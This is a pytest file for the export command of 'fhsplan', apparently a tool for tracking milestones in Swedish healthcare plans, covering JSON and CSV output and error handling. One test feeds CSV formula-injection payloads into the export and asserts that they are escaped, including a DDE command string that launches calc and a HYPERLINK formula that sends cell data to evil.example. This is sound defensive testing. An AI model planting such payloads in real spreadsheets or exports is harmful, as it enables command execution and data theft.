"""`fhsplan export`: the documented JSON shape, CSV, atomic -o, refusal of plans with errors."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from conftest import FIXTURES, run_fhsplan
from fhsplan.views.export import CSV_COLUMNS

DEMO = str(FIXTURES / "views" / "demo")
AS_OF = "--as-of=2024-06-30"
MILESTONE_KEYS = [
    "id", "area", "group", "title", "description", "due", "due_text", "timetable_note", "status",
    "changes", "colour", "active", "overdue", "owners", "beneficiaries", "effects", "goals", "depends_on",
    "dependents", "history", "followups", "note", "source", "uncertain",
]  # fmt: skip


def _export(*args: str) -> dict:  # type: ignore[type-arg]
    result = run_fhsplan("export", "--plan", DEMO, AS_OF, *args)
    assert result.returncode == 0, result.stderr
    return json.loads(result.stdout)  # type: ignore[no-any-return]


def test_json_shape_is_stable() -> None:
    data = _export()
    assert list(data) == ["format_version", "as_of", "plan", "areas", "milestones"]
    assert data["format_version"] == 2 and data["as_of"] == "2024-06-30"
    assert data["plan"]["period"] == {"start": 2022, "end": 2025}
    assert [a["id"] for a in data["areas"]] == ["nara-vard", "medarbetare", "digitalisering", "forskning"]
    assert all(list(m) == MILESTONE_KEYS for m in data["milestones"])
    assert len(data["milestones"]) == 13


def test_json_milestone_values() -> None:
    by_id = {m["id"]: m for m in _export()["milestones"]}
    span = by_id["halsoutbud-identifierat"]
    assert span["due"] == {
        "start": "2023-01-01", "end": "2025-12-31", "first_year": 2023, "last_year": 2025,
        "text": "2023–2025", "precision": "span",
    }  # fmt: skip
    assert (span["status"], span["changes"], span["colour"]) == ("unknown", ["reformulated"], "changed")
    assert by_id["handlingsplan-beslutad"]["due"]["start"] == "2022-01-01"
    assert by_id["handlingsplan-beslutad"]["due"]["precision"] == "year"
    assert span["effects"][0]["indicator"]["baseline"] == {"value": 41, "year": 2022, "note": None}
    assert span["effects"][0]["assessments"][0]["judgement"] == "too-early"
    withdrawn = by_id["medarbetarenkat"]
    assert (withdrawn["status"], withdrawn["active"], withdrawn["colour"]) == (
        "cancelled",
        False,
        "cancelled",
    )
    assert by_id["kompetensmodell"]["due"] is None
    assert by_id["kompetensmodell"]["timetable_note"] == "För tillfället saknas tidplan."
    assert by_id["samverkansgrupp-etablerad"]["overdue"] is True
    assert by_id["digital-vardcentral"]["group"] == "arbetssatt-processer"
    assert by_id["handlingsplan-beslutad"]["source"] == {
        "document": "001_test.txt",
        "section": "Tabell 1a",
        "quote": None,
    }


def test_csv_one_row_per_milestone() -> None:
    result = run_fhsplan("export", "--plan", DEMO, AS_OF, "--format", "csv")
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    assert list(rows[0]) == CSV_COLUMNS and len(rows) == 13
    row = next(r for r in rows if r["id"] == "samverkansgrupp-etablerad")
    assert row["effects"] == "Samordnade insatser [inv,sys]"
    assert row["history"] == "2023 postponed from 2022" and row["overdue"] == "true"
    assert (row["status"], row["changes"], row["owners"]) == ("started", "postponed", "primarvard")
    assert row["latest_follow_up"] == "2023-11-30 revision 2023"
    assert row["latest_comment"] == "Gruppen är tillsatt men har inte haft sitt första möte."
    assert row["follow_ups"] == "revision 2022 planned; 2023-11-30 revision 2023 started"
    assert row["due_start"] == "2023-01-01" and row["due_end"] == "2023-12-31"
    assert row["dependents"] == "halsoutbud-identifierat; virtuell-vard"


def test_output_file_is_written(tmp_path: Path) -> None:
    target = tmp_path / "out" / "plan.json"
    result = run_fhsplan("export", "--plan", DEMO, AS_OF, "-o", str(target))
    assert result.returncode == 0 and result.stdout == ""
    assert json.loads(target.read_text(encoding="utf-8"))["format_version"] == 2
    assert [p.name for p in target.parent.iterdir()] == ["plan.json"]  # no temporary file left


def test_unwritable_output_exits_2(tmp_path: Path) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("x")
    result = run_fhsplan("export", "--plan", DEMO, "-o", str(blocker / "plan.json"))
    assert result.returncode == 2 and result.stderr.startswith("fhsplan: cannot write")


def test_plan_with_errors_is_not_exported(write_plan) -> None:  # type: ignore[no-untyped-def]
    folder = write_plan({
        "plan.yaml": """\
            id: p
            title: P
            owner: O
            period: {start: 2023, end: 2024}
            revisions: [{year: 2023}]
            current_revision: 2023
        """,
        "areas/01-a.yaml": """\
            id: a
            name: A
            milestones:
              - {id: m, title: M, due: 2023, depends_on: [{milestone: nowhere}]}
        """,
    })  # fmt: skip
    result = run_fhsplan("export", "--plan", str(folder))
    assert result.returncode == 1 and "fhsplan validate" in result.stderr and result.stdout == ""


def test_csv_cells_that_would_run_as_formulas_are_text(write_plan) -> None:  # type: ignore[no-untyped-def]
    # Issue #10, item 5: a spreadsheet runs a cell starting with = + - @ (or TAB, CR) as a formula.
    folder = write_plan({
        "plan.yaml": """\
            id: p
            title: P
            owner: O
            period: {start: 2023, end: 2024}
            revisions: [{year: 2023}]
            current_revision: 2023
            beneficiaries: [{id: inv, name: invånarna}]
        """,
        "areas/01-a.yaml": """\
            id: a
            name: "=cmd|' /C calc'!A0"
            milestones:
              - id: m
                title: '=HYPERLINK("https://evil.example?d="&A1,"Klicka")'
                description: "+1+1"
                note: "  -2+3"
                due: 2023
                effects: [{text: "@SUM(1+1)", beneficiaries: [inv]}]
                followups: [{revision: 2023, status: started, comment: "\\t=1+1"}]
              - {id: n, title: Vanlig titel, due: 2024, effects: [{text: Bättre vård, beneficiaries: [inv]}]}
        """,
    })  # fmt: skip
    result = run_fhsplan("export", "--plan", str(folder), "--format", "csv", AS_OF)
    assert result.returncode == 0, result.stderr
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(result.stdout, newline=""))}
    hostile = rows["m"]
    assert hostile["title"] == '\'=HYPERLINK("https://evil.example?d="&A1,"Klicka")'
    assert (hostile["area_name"], hostile["description"], hostile["note"]) == (
        "'=cmd|' /C calc'!A0", "'+1+1", "'  -2+3",
    )  # fmt: skip
    assert (hostile["effects"], hostile["latest_comment"]) == ("'@SUM(1+1) [inv]", "'\t=1+1")
    assert (rows["n"]["title"], rows["n"]["effects"]) == ("Vanlig titel", "Bättre vård [inv]")
    formula = tuple("=+-@\t\r")
    assert [c for r in rows.values() for c in r.values() if c.lstrip().startswith(formula)] == []
